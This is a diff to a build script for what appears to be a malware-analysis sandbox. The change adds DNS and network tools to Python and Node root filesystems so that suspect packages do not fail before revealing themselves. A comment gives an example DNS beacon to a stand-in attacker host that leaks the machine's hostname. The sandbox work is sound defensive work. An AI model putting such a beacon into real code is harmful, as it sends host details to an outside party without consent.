@@ -86,13 +86,17 @@ download_wheels netsim "$HERE/netsim-wheels.txt"
 # The tools a developer's machine has, so droppers, persistence and clipboard stealers
 # find them and act (a missing curl or crontab hides what the package would do).
 DESK_TOOLS=curl,wget,git,procps,cron,xclip,xsel,netcat-openbsd
+# Name lookups and `python`: a beacon like `nslookup $(hostname).evil.example` or a
+# payload that runs `python -c ...` must not die on "not found" before it shows itself.
+# Their dependency trees (bind9's libraries) go through apt in the chroot.
+NET_TOOLS="bind9-dnsutils bind9-host iputils-ping python-is-python3"
 BASE_PACKAGES=python3,python3-pip,python3-venv,ca-certificates,$DESK_TOOLS
 if [ "$WHICH" = python ] || [ "$WHICH" = all ]; then
-    base=$(rootfs_image python "$BASE_PACKAGES" "") || die "building the Python root filesystem failed"
+    base=$(rootfs_image python "$BASE_PACKAGES" "$NET_TOOLS") || die "building the Python root filesystem failed"
     build python "$base"
 fi
 if [ "$WHICH" = node ] || [ "$WHICH" = all ]; then
-    base=$(rootfs_image node "$BASE_PACKAGES" "nodejs npm") || die "building the Node root filesystem failed"
+    base=$(rootfs_image node "$BASE_PACKAGES" "$NET_TOOLS nodejs npm") || die "building the Node root filesystem failed"
     build node "$base"
 fi
 say "done"
